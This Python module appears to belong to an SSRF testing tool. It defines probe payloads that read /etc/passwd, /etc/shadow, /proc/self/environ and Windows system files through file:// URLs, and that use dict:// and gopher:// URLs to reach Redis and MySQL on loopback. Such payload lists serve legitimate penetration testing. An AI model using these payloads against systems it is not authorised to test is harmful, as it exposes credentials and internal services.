"""
Local file disclosure and protocol smuggling probes.

``file://`` probes check whether the fetcher honours non-HTTP schemes;
``dict://`` and ``gopher://`` probes try to grab banners from services
listening on the target's loopback interface.
"""
from typing import List

from ssrfprobe.payloads.base import Category, ProbeDescriptor

FILE_READ_PAYLOADS = (
    ("file:///etc/passwd", ("root:", "bin:", "daemon:", "nobody:")),
    ("file:///etc/shadow", ("root:", "$6$", "$5$")),
    ("file:///etc/hosts", ("localhost", "127.0.0.1")),
    ("file:///proc/self/environ", ("PATH=", "HOME=", "USER=")),
    ("file:///c:/windows/win.ini", ("[fonts]", "[extensions]", "for 16-bit app support")),
    ("file:///c:/windows/system32/drivers/etc/hosts", ("localhost", "127.0.0.1")),
)

PROTOCOL_PAYLOADS = (
    ("dict://127.0.0.1:6379/info", ("redis_version", "tcp_port", "role:")),
    ("gopher://127.0.0.1:6379/_INFO", ("redis_version", "tcp_port")),
    ("gopher://127.0.0.1:3306/_GET", ("mysql", "MariaDB")),
    ("dict://127.0.0.1:3306/", ("mysql", "MariaDB")),
)


def get_high_risk_payloads() -> List[ProbeDescriptor]:
    payloads = [ProbeDescriptor.create(value, Category.FILE_READ, keywords) for value, keywords in FILE_READ_PAYLOADS]
    payloads += [ProbeDescriptor.create(value, Category.PROTOCOL_PROBE, keywords) for value, keywords in PROTOCOL_PAYLOADS]
    return payloads
